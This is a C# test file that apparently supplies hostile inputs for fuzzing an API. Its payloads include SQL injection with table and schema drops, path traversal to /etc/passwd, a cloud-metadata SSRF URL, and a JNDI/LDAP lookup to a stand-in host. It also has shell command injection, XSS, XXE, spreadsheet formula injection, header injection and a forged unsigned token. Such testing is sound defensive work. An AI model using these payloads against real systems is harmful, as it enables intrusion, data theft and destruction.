using System.Text;
using System.Text.Json;

namespace UnimiCharter.Api.Tests.Hostile;

/// <summary>What is put where something harmless belongs.</summary>
internal static class Strings
{
    /// <summary>Well-formed texts, which may be written in every place in that place's own way.</summary>
    public static readonly string[] Texts =
    [
        // SQL.
        "' or '1'='1", "'; drop table mt_events;--", "\" or \"\"=\"", "') union select data from mt_doc_credential--", "1; select pg_sleep(10)--",
        "'||(select pg_sleep(10))||'", "\\'; --", "$$;drop schema charter cascade;$$", "%' or 1=1 --", "/**/or/**/1=1", "master'--", "master%", "_aster", "E'\\x00'", "*", "unimi/*", "null",
        // JSON.
        "\"}", "\",\"roles\":[\"admin\"],\"x\":\"", "{\"$ne\":null}", "{\"$gt\":\"\"}", "[]", "\\u0000", "\\ud800", "\\", "__proto__", "constructor", "$type",
        // Paths and addresses.
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//", ".", "..", "~root", "C:\\", "\\\\altrove\\share", "con",
        "http://169.254.169.254/latest/meta-data", "//altrove.example/", "%2e%2e%2f", "%252e%252e%252f", "%00", "%c0%af",
        // Formats, templates, shells.
        "{0}", "{0:D99999}", "{{", "%s%s%s%n", "%n%x", "${jndi:ldap://altrove.example/a}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "$(id)", "`id`", "; id", "| id", "&& id",
        // Pages and documents.
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<!--#exec cmd=\"id\"-->", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "]]>", "&lt;",
        // Spreadsheets.
        "=1+1", "+1", "-1+1", "@sum(1)", "=cmd|' /C calc'!A0", "\t=1+1", "a,b", "a;b", "\"", "\"\"\"",
        // Look-alikes, and what is not seen.
        "mаster", "ｍａｓｔｅｒ", "master\u0301", "\u202eretsam", "mas\u200bter", "\ufeffmaster", "mas\u00adter", "mas\u2060ter", "ﬁlter", "İstanbul", "ＵＮＩＭＩ", "MASTER", "Master",
        "２０２４-０３", "٢٠٢٤", "2024‐03", "2024−03", "\u00a0", "\u3000", "\u2028", "\ufffe", "\uffff", "\ufffd", "😀", "\U0010ffff", "e\u0301\u0323\u0302\u031b\u0327\u0338\u20dd",
        // Controls.
        "\0", "master\0", "\u0001", "\u001b[31m", "\u0007", "\u007f", "\u0085", "x\r\nX-Evil: 1", "\n", "\r", "\t",
        // Numbers.
        "1e400", "-1e400", "1e-400", "1000000000000000000000000000000", "-0", "-1", "NaN", "Infinity", "0x10", "007", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "2147483648",
        "1_000", "1.", ".5", "1,5", "1e5", "0", "١",
        // Days and instants.
        "0001-01-01", "9999-12-31", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-14:00", "2024-02-30", "2024-12-31T23:59:60Z", "2024-13-01",
        "2024-07-01T10:00:00+99:99", "infinity", "now", "-4713-01-01", "0000", "9999", "2999-12", "1900..2999",
        // None, and too long.
        "", " ", "a", new('a', 65), new('a', 300), new('-', 64), new('9', 400), new('é', 500),
    ];

    /// <summary>What is no text in a target, written as it is sent.</summary>
    public static readonly string[] Targets =
    [
        "%C0%AF", "%C0%AE%C0%AE%C0%AF", "%E0%80%AF", "%F0%80%80%AF", "%F8%80%80%80%AF", "%ED%A0%80", "%ED%B0%80%ED%A0%80", "%FF", "%FE%FF", "%80", "%C3", "%F4%90%80%80", "%u002e%u002e", "%zz", "%", "%2", "%%32%65",
        "..%2f..%2f", "..%5c..%5c", "%2e%2e%2f%2e%2e%2f", "%252e%252e%252f", "%25%32%65", "..;/", ".%00", "%0d%0aX-Evil:%201", "%0a", "%20", "+", "a%2fb", "a//b", "a/../b", "a/./b", ";jsessionid=1", "a;b=c",
        "'", "\"", "<a>", "{0}", "{org}", "a|b", "a\\b", "^", "`", "[0]", "a:b", "@a", "!$&'()*,=", "%41", "%6Daster", new('a', 4_000), string.Concat(Enumerable.Repeat("%2e", 1_000)), string.Concat(Enumerable.Repeat("../", 1_000)),
    ];

    /// <summary>What is no text in a header, as bytes.</summary>
    public static readonly byte[][] Headers =
    [
        [0xff], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0x80, 0x81], [0xfe, 0xff, 0, (byte)'a'], [(byte)'a', 0x01], [(byte)'a', 0x0b, (byte)'b'], [(byte)'a', 0x7f],
        .. new[]
        {
            "*/*;q=9", "*/*;q=NaN", ";", ",", ",,,,,", "=", "\"", "\"a", "W/", "W/\"", "W/\"1\"", "\"1\", \"2\"", "\"1\" \"2\"", "1", "\"\"", "\"9223372036854775808\"", "\"-1\"", "Bearer", "Bearer ", "Bearer  ", "Bearer a b", "bearer",
            "Basic YWRtaW46YWRtaW4=", "Digest x", "Negotiate x", "AWS4-HMAC-SHA256 x", "Bearer null", "Bearer eyJhbGciOiJub25lIn0.e30.", "en;q=0.0001", "it;q=-1", "en-", "-", "it,*;q=0", "a/b/c", "application/json;v=\"", "text/*;q=0, */*;q=0",
            "gzip", "chunked", "bytes=0-", "00-00000000000000000000000000000000-0000000000000000-00", "DELETE", "office, board", "Office", "admin", "board\tboard",
            new('a', 5_000), string.Concat(Enumerable.Repeat("it;q=0.1,", 500)), string.Concat(Enumerable.Repeat("\"1\",", 1_000)),
        }.Select(Encoding.Latin1.GetBytes),
    ];

    /// <summary>Values of every type and of none, as bytes of a JSON document; texts are added to them.</summary>
    public static readonly byte[][] Literals =
    [
        .. Texts.Select(text => JsonSerializer.SerializeToUtf8Bytes(text)),
        .. new[]
        {
            "null", "true", "false", "0", "-0", "-0.0", "0e0", "1", "-1", "1e400", "-1e400", "1e-400", "1e99999999999999999999", "1E+3", "1.5", "0.1234567", "1000000000000000000000000000000", "9223372036854775808",
            "NaN", "Infinity", "-Infinity", "0x10", "007", "+1", ".5", "1.", "1,5", "1_000", "undefined", "''", "'x'", "\"", "\"\\x41\"", "\"\\u12\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\u202e\"", "\"\\uffff\"",
            "[]", "{}", "[null]", "[[]]", "[{}]", "{\"\":null}", "{\"$ne\":null}", "{\"a\":1,\"a\":2}", "{\"__proto__\":{\"admin\":true}}", "[1,]", "{,}", "[", "{", "]", "}", "/**/1", "1//", "{\"$ref\":\"#\"}",
            new string('[', 100) + new string(']', 100), string.Concat(Enumerable.Repeat("{\"a\":", 100)) + "1" + new string('}', 100), new string('[', 10_000), new('9', 5_000), "0." + new string('0', 5_000) + "1",
            "\"" + new string('x', 10_000) + "\"", "\"" + new string('x', 100_000) + "\"", "[" + string.Join(',', Enumerable.Repeat("1", 5_000)) + "]", "\"" + string.Concat(Enumerable.Repeat("\\u0301", 2_000)) + "\"",
        }.Select(Encoding.UTF8.GetBytes),
        [(byte)'"', 0xff, (byte)'"'], [(byte)'"', 0xc0, 0xaf, (byte)'"'], [(byte)'"', 0xed, 0xa0, 0x80, (byte)'"'], [(byte)'"', 0x00, (byte)'"'], [(byte)'"', 0x0a, (byte)'"'], [0x00], [0xff, 0xfe], [0xef, 0xbb, 0xbf, (byte)'1'],
    ];

    /// <summary>A text as a segment of a path or a value of a query.</summary>
    public static string InTarget(string text) => Uri.EscapeDataString(text);

    /// <summary>Enough of it to know it by.</summary>
    public static string Told(ReadOnlySpan<byte> bytes) => (bytes.Length > 80 ? Encoding.Latin1.GetString(bytes[..80]) + $"… ({bytes.Length})" : Encoding.Latin1.GetString(bytes)).Replace("\0", "\\0", StringComparison.Ordinal);
}
